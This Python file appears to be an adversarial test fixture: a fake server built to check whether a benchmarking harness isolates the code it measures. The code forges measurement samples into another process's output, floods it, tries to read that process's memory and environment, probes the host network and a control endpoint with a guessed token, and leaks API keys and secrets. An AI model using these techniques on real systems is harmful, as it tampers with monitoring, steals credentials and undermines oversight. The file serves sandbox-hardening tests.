"""A server under test that wants to be measured as more than it is, and talks too much. Its log says how far it came."""

import json
import os
import socket
import struct
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.error import HTTPError
from urllib.request import Request, urlopen

WORKER = {"pid": 9, "ppid": 1, "command_line": "vscale mock", "threads": 1, "cpu_us": 1, "rss_bytes": 1, "cpus_allowed": "0"}


def say(*words):
    print(*words, flush=True)


def forged():
    workers = [dict(WORKER, pid=pid) for pid in (9, 10, 11, 12)]
    sample = {"event": "sample", "unix_us": time.time_ns() // 1000, "processes": workers, "connections": 0, "limits": {}, "own_cpu_us": 0}
    return (json.dumps(sample) + "\n").encode()


def write_to(pid, what):
    """Opens the stdout of another process and writes a sample of four workers there, and then a flood."""
    try:
        with open(f"/proc/{pid}/fd/1", "wb", buffering=0) as out:
            out.write(forged())
            say(what, "opened")
            if what == "probe":
                for _ in range(1024):
                    out.write(b"x" * (1 << 20))
    except OSError as error:
        say(what, error.strerror)


def attack_probe():
    seen = {}
    while True:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                command = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
                status = open(f"/proc/{pid}/status").read()
            except OSError:
                continue
            if command[1:2] == [b"probe"]:
                if pid not in seen:
                    seen[pid] = say("probe's user", status.split("Uid:")[1].split()[0], "mine", os.getuid())
                write_to(pid, "probe")
                for name in ("mem", "environ", "fd/0", "exe", "root/vscale"):
                    try:
                        open(f"/proc/{pid}/{name}", "rb").read(1)
                        say("probe", name, "opened")
                    except OSError as error:
                        say("probe", name, error.strerror)
        time.sleep(0.1)


def attack_mock():
    for token in (None, "guessed"):
        request = Request("http://mock:80/_vscale/window", data=b"", headers={"Authorization": f"Bearer {token}"} if token else {})
        try:
            say("mock", urlopen(request, timeout=5).status)
        except HTTPError as error:
            say("mock", error.code)


def attack_host():
    """The host's own address in this network is its first; a default route may name it too."""
    mine = socket.gethostbyname(socket.gethostname())
    with open("/proc/net/route") as table:
        routes = [line.split() for line in table.readlines()[1:]]
    gateways = {socket.inet_ntoa(struct.pack("<L", int(row[2], 16))) for row in routes if row[2] != "00000000"}
    network = min(struct.unpack("<L", struct.pack("<L", int(row[1], 16)))[0] for row in routes if row[1] != "00000000")
    first = socket.inet_ntoa(struct.pack(">L", struct.unpack(">L", struct.pack("<L", network))[0] + 1))
    for host in sorted(gateways | {first}):
        try:
            socket.create_connection((host, int(os.environ["HOST_PORT"])), 2).close()
            say("host", "reached", host, "from", mine)
        except OSError as error:
            say("host", "not reached:", error)


def talk():
    say("my key is", os.environ["API_KEY"], "and my flag", sys.argv[-1])
    say("my database", os.environ["DATABASE_URL"], "my label's value is label-5ecret-value")


class Server(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def answer(self, status, text):
        self.send_response(status)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    def do_GET(self):
        self.answer(200, b"ok")

    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        # Every other answer is an error that repeats what came and what is secret.
        Server.count = getattr(Server, "count", 0) + 1
        if Server.count % 2:
            self.answer(200, b'{"choices": [1]}')
        else:
            self.answer(500, f"no: {os.environ['API_KEY']} {self.headers['X-Api-Key']}".encode())

    def log_message(self, *_):
        pass


child = os.fork()
if child == 0:
    # A process of the same user that is not on its guard: what is tried on the probe works on it.
    sys.stdout.flush()
    os.execv("/bin/sleep", ["sleep", "3"])
time.sleep(0.2)
write_to(child, "control")
os.waitpid(child, 0)
talk()
for attack in (attack_probe, attack_mock, attack_host):
    threading.Thread(target=attack, daemon=True).start()
ThreadingHTTPServer(("0.0.0.0", 81), Server).serve_forever()
